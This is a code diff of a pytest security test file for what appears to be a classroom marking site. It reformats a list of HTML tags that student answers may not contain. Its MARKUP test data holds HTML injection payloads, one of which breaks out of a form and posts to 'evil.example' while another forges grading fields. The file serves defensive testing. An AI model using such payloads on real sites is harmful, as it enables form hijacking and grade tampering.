@@ -19,24 +19,11 @@ from tests.marking.classroom import ASSIGNMENT, hand_in, held, make_course
 from tests.marking.site import Reply, Site, hidden, running
 
 pytestmark = pytest.mark.xdist_group("attacks")
-
 SCALE = "group?x=1_attention%2Fscale"
 #: Whatever a page of ours may hold, and an answer may not.
 OURS = {
-    "form",
-    "button",
-    "input",
-    "textarea",
-    "label",
-    "script",
-    "link",
-    "meta",
-    "style",
-    "base",
-    "iframe",
-    "svg",
-    "nav",
-}
+    "form", "button", "input", "textarea", "label", "script", "link", "meta", "style", "base", "iframe", "svg", "nav",
+}  # fmt: skip
 MARKUP = {
     "the end of our form": "</textarea></form></article><form action='//evil.example'><button>Store</button></form>",
     "fields of our form": "<input name=points value=2 form=mark><button form=mark>go</button><select form=mark>",
